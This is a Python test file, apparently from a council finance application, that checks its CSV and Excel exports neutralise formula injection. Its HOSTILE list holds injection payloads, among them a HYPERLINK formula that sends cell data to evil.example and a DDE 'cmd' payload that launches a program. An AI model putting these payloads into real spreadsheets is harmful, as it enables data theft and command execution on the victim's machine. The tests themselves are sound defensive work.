"""Every CSV and Excel file writes text as text: nothing a council or a user typed becomes a live formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from raa_core.presentation import export

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0"]


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "comment": [*HOSTILE, "plain text", None],
        "=HYPERLINK(\"x\")": ["a"] * 9,
        "amount": [Decimal("-12.50")] * 9,
        "n": [-3] * 9,
        "when": [dt.date(2022, 10, 7)] * 9,
    })


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_csv_neutralises_formula_like_text_and_headers_but_not_numbers() -> None:
    rows = list(csv.reader(io.StringIO(export.table_csv(_frame()).decode("utf-8-sig"), newline="")))
    assert rows[0][1] == "'=HYPERLINK(\"x\")"
    assert [r[0] for r in rows[1:8]] == ["'" + h for h in HOSTILE]
    assert rows[8][0] == "plain text"
    assert {r[2] for r in rows[1:]} == {"-12.50"} and {r[3] for r in rows[1:]} == {"-3"}


def test_excel_writes_text_cells_never_formulas() -> None:
    data = export.table_xlsx(_frame(), sheet="comments", title="=TITLE()")
    assert "<f>" not in _sheet_xml(data)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws.cell(1, 1).value == "=TITLE()" and ws.cell(1, 1).data_type == "s"
    header = [c.value for c in ws[3]]
    assert header[1] == '=HYPERLINK("x")'
    comments = [ws.cell(r, 1) for r in range(4, 11)]
    # xlsx escapes a carriage return as _x000D_ (Excel reads it back as CR; openpyxl leaves it escaped)
    assert [c.value.replace("_x000D_", "\r") for c in comments] == HOSTILE
    assert all(c.data_type == "s" and c.quotePrefix for c in comments)
    assert ws.cell(4, 3).value == -12.5 and ws.cell(4, 4).value == -3
    assert ws.cell(4, 5).value == dt.datetime(2022, 10, 7)


def test_monitoring_workbook_comment_is_text(sample_con, ref) -> None:
    from financekit import monitor
    from raa_core.finance.monitoring_export import monitoring_workbook

    report = monitor(sample_con, ref, "2026-27")
    comments = pd.DataFrame([{"la_code": 886, "financial_year": "2026-27", "period": 6, "budget_area": "pooled",
                              "cost_line": "panels", "comment": HOSTILE[0], "author": "@hos",
                              "created_at": dt.datetime(2026, 10, 1)}])
    data = monitoring_workbook(report, comments=comments)
    assert "<f>" not in _sheet_xml(data)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    found = [c for row in wb["Commentary"].iter_rows() for c in row if c.value == HOSTILE[0]]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)


@settings(deadline=None, max_examples=60)
@given(st.text(min_size=1, max_size=20))
def test_any_text_round_trips_through_excel_as_text(text: str) -> None:
    clean = "".join(ch for ch in text if ch.isprintable() or ch in "\t\r")
    if not clean:
        return
    data = export.table_xlsx(pd.DataFrame({"v": [clean]}))
    cell = openpyxl.load_workbook(io.BytesIO(data)).active.cell(2, 1)
    assert cell.data_type == "s"
    assert cell.quotePrefix == export.is_formula_like(clean)


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_marks_every_trigger(text: str) -> None:
    assert export.csv_text(text).startswith("'")


def test_every_xlsxwriter_path_writes_formula_like_text_as_quoted_text() -> None:
    """`export.Workbook`'s sheets neutralise text however it is written: write, write_string, a link's
    text, a table's headers, or the spec-typed tables of the board pack."""
    from raa_core.presentation import Col, TableSpec

    wb = export.Workbook()
    ws = wb.add_worksheet("paths")
    bold = wb.add_format({"bold": True})
    ws.write(0, 0, HOSTILE[0], bold)
    ws.write_string(1, 0, HOSTILE[1])
    ws.write_url(2, 0, "internal:'paths'!A1", string=HOSTILE[2])
    ws.add_table(4, 0, 5, 0, {"columns": [{"header": HOSTILE[3]}]})
    ws.write(7, 0, "plain", bold)
    spec = TableSpec("t", (Col("comment", "=Comment"), Col("amount", "Amount", "money")))
    sheet = wb.add_worksheet("spec")
    export.write_spec_table(sheet, export.SpecFormats(wb), spec,
                            pd.DataFrame({"comment": [HOSTILE[4], "ok"], "amount": [Decimal("-1.50"), None]}))
    data = wb.to_bytes()
    assert "<f>" not in _sheet_xml(data)
    book = openpyxl.load_workbook(io.BytesIO(data))
    paths, typed = book["paths"], book["spec"]
    for cell, text in ((paths["A1"], HOSTILE[0]), (paths["A2"], HOSTILE[1]), (paths["A3"], HOSTILE[2]),
                       (paths["A5"], HOSTILE[3]), (typed["A2"], HOSTILE[4]), (typed["A1"], "=Comment")):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert paths["A1"].font.b, "the quoted copy keeps the cell's own format"
    assert not paths["A8"].quotePrefix and typed["B2"].value == -1.5


def test_several_sheets_keep_print_setup_and_text_as_text() -> None:
    data = export.tables_xlsx([("One", _frame(), "=Title"), ("Two", _frame(), None)])
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["One", "Two"]
    one, two = book["One"], book["Two"]
    assert one["A1"].value == "=Title" and one["A1"].quotePrefix
    assert one.print_title_rows == "$3:$3" and two.print_title_rows == "$1:$1"
    assert one.page_setup.orientation == "landscape" and "Page &P of &N" in one.oddFooter.right.text
    assert two["A2"].value == HOSTILE[0] and two["A2"].quotePrefix


def test_one_writer_module_for_every_excel_and_csv_file() -> None:
    """Only raa_core/presentation/export.py builds workbooks or CSV text; every other producer goes through it."""
    import re
    from pathlib import Path

    repo = Path(__file__).resolve().parents[3]
    pattern = re.compile(r"xlsxwriter\.Workbook\(|ExcelWriter\(|\.to_csv\(|\.to_excel\(|csv\.writer\(|"
                         r"from xlsxwriter\.workbook import|openpyxl")
    offenders = [str(p.relative_to(repo)) for folder in ("raa_core", "raa_app", "pages") for p in
                 (repo / folder).rglob("*.py") if p.relative_to(repo).as_posix() != "raa_core/presentation/export.py"
                 if pattern.search(p.read_text("utf-8"))]
    offenders += ["app.py"] if pattern.search((repo / "app.py").read_text("utf-8")) else []
    assert offenders == []


def test_numpy_numbers_in_an_object_column_stay_numbers() -> None:
    import numpy as np

    frame = pd.DataFrame({"mixed": pd.Series([np.int64(41), "not held", np.float64(1.5), np.bool_(True)],
                                             dtype=object)})
    ws = openpyxl.load_workbook(io.BytesIO(export.table_xlsx(frame))).active
    assert [ws.cell(r, 1).value for r in range(2, 6)] == [41, "not held", 1.5, True]


def test_a_date_cell_is_a_date_shown_as_the_app_writes_days() -> None:
    """A workbook's day is a real date (it sorts and filters) shown "7 Oct 2022", as `date_text` writes it and
    the grid's date columns show it, not ISO."""
    ws = openpyxl.load_workbook(io.BytesIO(export.table_xlsx(_frame()))).active
    [cell] = [c for row in ws.iter_rows() for c in row if c.is_date][:1]
    assert cell.value.date() == dt.date(2022, 10, 7) and cell.number_format == "d mmm yyyy"
